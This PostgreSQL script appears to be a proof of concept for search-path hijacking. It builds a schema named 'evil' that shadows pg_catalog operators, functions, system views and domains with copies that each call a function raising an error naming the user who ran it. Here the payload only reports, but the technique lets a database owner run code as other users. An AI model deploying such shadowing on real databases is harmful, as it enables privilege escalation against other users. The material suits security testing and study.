-- What the owner of a database can do so that others who work in it run his code:
-- a schema before pg_catalog in the search path, in which everything has a double.
CREATE SCHEMA evil;
CREATE FUNCTION evil.gotcha() RETURNS text LANGUAGE plpgsql
  AS $$ BEGIN RAISE 'the code of somebody else ran as %', current_user; END $$;

DO $$
DECLARE
  double record;
BEGIN
  FOR double IN
    SELECT oid, oprname, oprleft::regtype AS l, oprright::regtype AS r,
      oprresult::regtype AS result
    FROM pg_operator
    WHERE oprname IN ('=', '<>', '<', '>', '<=', '>=', '~~', '!~~', '||', '~', '!~')
      AND oprkind = 'b' AND oprleft::regtype::text !~ '^any|^pg_ddl'
      AND oprright::regtype::text !~ '^any|^pg_ddl'
  LOOP
    EXECUTE format(
      'CREATE FUNCTION evil.o%s(%s, %s) RETURNS %s LANGUAGE plpgsql'
      ' AS ''BEGIN PERFORM evil.gotcha(); RETURN NULL; END'';'
      'CREATE OPERATOR evil.%s (leftarg = %s, rightarg = %s, function = evil.o%s)',
      double.oid, double.l, double.r, double.result,
      double.oprname, double.l, double.r, double.oid);
  END LOOP;
  FOR double IN
    SELECT proname, pg_get_function_identity_arguments(oid) AS arguments,
      pg_get_function_result(oid) AS result
    FROM pg_proc
    WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f'
      AND proname ~ '^pg_get|^(set_config|current_setting|format_type|obj_description)$'
        '|^(concat|unnest|generate_series|current_database|json_build_array|encode)$'
        '|^(convert_to|pg_lock_status|pg_backend_pid|current_schemas|to_json|lower)$'
      AND pg_get_function_result(oid) !~ '^any|internal'
      AND pg_get_function_identity_arguments(oid) !~ 'internal|VARIADIC'
  LOOP
    EXECUTE format(
      'CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql'
      ' AS ''BEGIN PERFORM evil.gotcha(); RETURN; END''',
      double.proname, double.arguments,
      CASE WHEN double.arguments ~ '\mOUT\M' OR double.result ~ '^(SETOF|TABLE)'
        THEN double.result ELSE 'SETOF ' || double.result END);
  END LOOP;
  FOR double IN
    SELECT relname FROM pg_class
    WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v')
  LOOP
    EXECUTE format('CREATE VIEW evil.%I AS SELECT evil.gotcha() AS oid', double.relname);
  END LOOP;
END $$;
CREATE DOMAIN evil.text AS text CHECK (evil.gotcha() IS NULL);
CREATE DOMAIN evil.oid AS oid CHECK (evil.gotcha() IS NULL);
CREATE DOMAIN evil.regclass AS regclass CHECK (evil.gotcha() IS NULL);
